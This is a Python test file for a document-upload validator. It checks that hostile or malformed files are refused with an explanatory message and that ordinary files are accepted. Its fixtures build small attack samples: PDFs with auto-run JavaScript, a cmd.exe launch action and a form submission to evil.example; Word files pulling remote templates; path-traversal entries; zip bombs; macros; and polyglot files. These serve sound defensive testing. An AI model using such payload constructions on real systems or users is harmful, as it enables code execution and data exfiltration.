"""What is no letter, or more than one, is refused with a sentence that names the way out; nothing of it is kept."""

import struct

import pytest

from backend.core.errors import Refused
from backend.documents.program import read
from backend.documents.reading import MOST_LETTERS
from tests.backend.documents.samples import (
    LIMITS,
    OFFICE,
    RELATIONS,
    W,
    altered,
    archive,
    blank_pages,
    bomb,
    docx,
    jpeg,
    odt,
    pdf,
    png,
    written,
)


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PRINTED = "print it to a new PDF"


def relation(kind: str, target: str) -> dict[str, str]:
    said = f'<Relationship Id="r9" Type="{OFFICE}/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{said}</Relationships>'}


def catalogue(more: str) -> bytes:
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return written([f"<</Type/Catalog/Pages 2 0 R{more}>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>", page])


def of_two_sizes() -> bytes:
    """An archive whose directory says that a part is small, and from which far more comes."""
    data = bytearray(bomb())
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/large.dat"))
    struct.pack_into("<I", data, place + 24, 10)
    return bytes(data)


HOSTILE = {
    "nothing": (lambda: b"", "The file is empty"),
    "spaces": (lambda: b"\r\n  \x00", "The file is empty"),
    "a program": (lambda: b"MZ\x90\x00" + b"\0" * 99, "The file is a program. Choose a PDF"),
    "a page with a script": (lambda: b"<html><script>alert(1)</script>", "a web page or a drawing in code"),
    "a drawing with a script": (lambda: b'<?xml version="1.0"?><svg onload="x()"/>', "a web page or a drawing"),
    "rich text": (lambda: b"{\\rtf1 hello}", "in the format RTF. Choose a PDF"),
    "a picture of a phone": (lambda: b"\0\0\0\x18ftypheic\0\0", "HEIC): save or send it as a JPEG"),
    "plain text": (lambda: b"Dear sir or madam", "This kind of file is not taken, whatever its name says."),
    "an old Word file": (lambda: OLD + b"WordDocument", "Word before 2007: save it as a Word document"),
    "a locked Word file": (lambda: OLD + "EncryptedPackage".encode("utf-16-le"), "take the password off"),
    "a macro by its type": (lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "a macro"),
    "a macro as a part": (lambda: docx(more={"word/vbaProject.bin": b"x"}), f"which is a program: open it, {PRINTED}"),
    "an ActiveX part": (lambda: docx(more={"word/activeX/activeX1.xml": "<x/>"}), "a macro"),
    "a macro of LibreOffice": (lambda: odt(more={"Basic/Standard/Module1.xml": "<x/>"}), "a macro"),
    "a file inside": (lambda: docx(more={"word/embeddings/more.xlsx": b"x"}), "holds another file"),
    "an object inside": (lambda: odt(more={"Object 1/content.xml": "<x/>"}), "holds another file"),
    "a template from elsewhere": (
        lambda: docx(more=relation("attachedTemplate", "https://evil.example/x.dotm")),
        "loads something from elsewhere",
    ),
    "a picture from elsewhere": (lambda: docx(more=relation("image", "https://evil.example/x.png")), "from elsewhere"),
    "a picture from elsewhere (odt)": (
        lambda: odt('<draw:image xlink:href="http://evil.example/1.png"/>'),
        "loads something from elsewhere",
    ),
    "a spreadsheet": (lambda: docx(main=SPREADSHEET), "The file is a spreadsheet, not a document"),
    "an OpenDocument spreadsheet": (
        lambda: odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        "The file is a spreadsheet",
    ),
    "an archive": (lambda: archive({"a.txt": "hello"}), "an archive of other files, not a document"),
    "a locked OpenDocument": (
        lambda: odt(more={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "take the password off",
    ),
    "a bomb": (bomb, "unpacks into far more than a document needs"),
    "a bomb that lies about its size": (of_two_sizes, "cut off or damaged"),
    "many parts": (lambda: docx(more={f"word/media/{n}.png": b"" for n in range(1001)}), "unpacks into far more"),
    "entities": (
        lambda: docx(more={"word/document.xml": f'<!DOCTYPE x [<!ENTITY a "b">]><w:document {W}>&a;</w:document>'}),
        "written in a way in which no office program writes",
    ),
    "a part outside": (lambda: docx(more={"../../etc/passwd": b"x"}), "written in a way"),
    "half a Word file": (lambda: docx()[:300], "cut off or damaged"),
    "5,000 pages": (lambda: blank_pages(5000), "The file has 5,000 pages, and 50 are the most"),
    "51 pages of Word": (
        lambda: docx(more={"docProps/app.xml": "<Properties><Pages>51</Pages></Properties>"}),
        "The file has 51 pages",
    ),
    "a library of words": (lambda: docx("word " * (MOST_LETTERS // 4)), "far more words than a CV"),
    "a script in a PDF": (
        lambda: catalogue(r"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(x\(1\))>>]>>>>"),
        f"a program that runs when it is opened: open it, {PRINTED}",
    ),
    "a script by another spelling": (
        lambda: catalogue("/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        "a program that runs",
    ),
    "a launch": (lambda: catalogue("/OpenAction<</S/Launch/F(cmd.exe)>>"), "a program that runs"),
    "a form that is sent": (lambda: catalogue("/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>"), "a program"),
    "a form of Adobe’s": (lambda: catalogue("/AcroForm<</XFA(x)/Fields[]>>"), "a program that runs"),
    "a file in a PDF": (lambda: pdf(attachment=b"MZ"), "holds another file"),
    "a PDF with a password": (lambda: pdf(password="otter"), "protected by a password: take the password off"),
    "a PDF that may not be changed": (lambda: altered(pdf(), owner_password="otter"), "protected by a password"),
    "half a PDF": (lambda: pdf()[:400], "cut off or damaged"),
    "a PDF of rubbish": (lambda: b"%PDF-1.7\nrubbish\n%%EOF", "cut off or damaged"),
    "a PDF with an archive behind": (lambda: pdf() + archive({"a.exe": "MZ"}), "two kinds of file in one"),
    "a PDF with a page behind": (lambda: pdf() + b"<html><script>x()</script></html>", "two kinds of file in one"),
    "a page before a PDF": (lambda: b"<html>" + pdf(), "two kinds of file in one"),
    "an archive with a PDF in front": (lambda: b"MZ" + pdf(), "two kinds of file in one"),
    "a Word file with more behind": (lambda: docx() + b"<?php x();", "two kinds of file in one"),
    "a picture with an archive behind": (lambda: jpeg() + archive({"a.exe": "MZ"}), "two kinds of file in one"),
    "a picture with a page behind": (lambda: jpeg() + b"<script>x()</script>", "two kinds of file in one"),
    "half a photograph": (lambda: jpeg()[:900], "cut off or damaged"),
    "half a picture": (lambda: png()[:200], "cut off or damaged"),
    "a picture larger than any": (
        lambda: png()[:16] + struct.pack(">II", 60_000, 60_000) + png()[24:],
        "cut off or damaged",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_each_is_refused_with_the_way_out(name):
    make, says = HOSTILE[name]
    with pytest.raises(Refused) as refusal:
        read(make(), LIMITS)
    assert says in refusal.value.message
    assert refusal.value.field == "file"


WELCOME = {
    "a PDF that opens on its first page": lambda: catalogue("/OpenAction[3 0 R/XYZ null null 0]"),
    "a PDF with line ends behind": lambda: pdf() + b"\r\n\0\0",
    "a Word file made from a template of its own disk": lambda: docx(
        more={
            "word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:/LAC/review.dotx")[
                "word/_rels/document.xml.rels"
            ]
        }
    ),
    "a Word file with a link": lambda: docx(more=relation("hyperlink", "https://college.example/")),
    "a photograph with a second one behind": lambda: jpeg() + jpeg(),
    "50 pages": lambda: blank_pages(50),
}


@pytest.mark.parametrize("name", WELCOME)
def test_what_people_really_send_is_taken(name):
    assert read(WELCOME[name](), LIMITS).pages != 0
